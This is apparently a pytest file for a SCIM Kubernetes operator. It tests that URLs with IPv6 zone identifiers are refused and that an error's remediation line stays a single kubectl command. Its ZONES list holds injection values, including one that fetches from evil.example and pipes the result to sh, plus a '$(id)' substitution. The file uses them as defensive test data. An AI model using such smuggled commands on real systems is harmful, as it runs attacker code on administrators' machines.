"""A message gives the line that fixes it, and an administrator pastes it into a shell: nothing of it is an author's."""

from __future__ import annotations

import json
import shlex
from typing import TYPE_CHECKING, Any

import pytest

from scim_operator.core.secrecy.destinations import DataRef, destination_of, going_to, host_name, released
from scim_operator.errors import HostNotNamed, InvalidSpec
from scim_operator.local.checks import check
from scim_operator.local.manifests import collect
from scim_operator.scim.url import service_url

if TYPE_CHECKING:
    from pathlib import Path

ZONES = ["fd00::1%25';{curl,evil.example}|sh;'", "fd00::1%25eth0", "fe80::1%lo", "::1%25$(id)"]


@pytest.mark.parametrize("host", ZONES)
def test_an_address_with_a_zone_is_no_host(host: str) -> None:
    """A zone may be any text, and only addresses that nothing is sent to have one."""
    url = f"https://[{host}]/scim"
    with pytest.raises(ValueError, match="no host"):
        destination_of(url)
    with pytest.raises(InvalidSpec) as caught:
        service_url(url)
    assert host not in str(caught.value)
    with pytest.raises(ValueError, match="no host"):
        host_name(host)


@pytest.mark.parametrize("url", [*(f"https://[{host}]/scim" for host in ZONES[:2]), "https://vc.example.com:0/scim"])
@pytest.mark.parametrize("field", ["url", "tokenUrl"])
def test_validate_refuses_it_too(tmp_path: Path, url: str, field: str) -> None:
    service: dict[str, Any] = {"url": url, "auth": {"bearer": {"secretRef": {"name": "t"}}}}
    if field == "tokenUrl":
        service = {"url": "https://vc.example.com", "auth": {"oauth2": {"tokenUrl": url, "secretRef": {"name": "t"}}}}
    metadata = {"name": "vmware", "namespace": "identity"}
    body = {"apiVersion": "scim-operator.io/v1alpha1", "kind": "ProvisioningConfig", "metadata": metadata}
    (tmp_path / "config.json").write_text(json.dumps({**body, "spec": {"service": service}}))
    said = [finding.message for finding in check(collect([tmp_path]))]
    assert any(f"{field}: " in each for each in said), said


@pytest.mark.parametrize("url", ["https://evil.example", "https://[fd00::1]:8443", "https://EVIL.example.:1"])
def test_the_line_is_one_command(url: str) -> None:
    ref = DataRef("Secret", "identity", "vmware-scim", ("token",))
    with pytest.raises(HostNotNamed) as caught:
        released(ref, {"hosts": b"vc.example.com", "token": b"x"}, going_to(destination_of(url)))
    words = shlex.split(str(caught.value).partition("already: ")[2])
    assert words[:2] == ["kubectl", "--namespace"]
    assert len(words) == 8
